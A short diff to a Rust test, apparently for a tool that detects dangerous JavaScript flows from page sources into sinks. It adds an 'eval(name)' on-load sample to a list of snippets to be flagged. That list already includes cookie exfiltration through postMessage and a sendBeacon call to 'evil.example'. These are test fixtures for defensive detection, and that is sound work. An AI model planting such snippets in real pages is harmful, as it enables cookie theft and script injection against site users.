@@ -1642,6 +1642,7 @@ fn page_source_into_a_sink() {
             "postMessage(document.cookie,'*')",
             "navigator.sendBeacon('//evil.example',document.cookie)",
             "$('#x').append(window.location.search)",
+            "addEventListener('load',function(){eval(name)})",
         ],
         &[
             "$('#id').hide()",
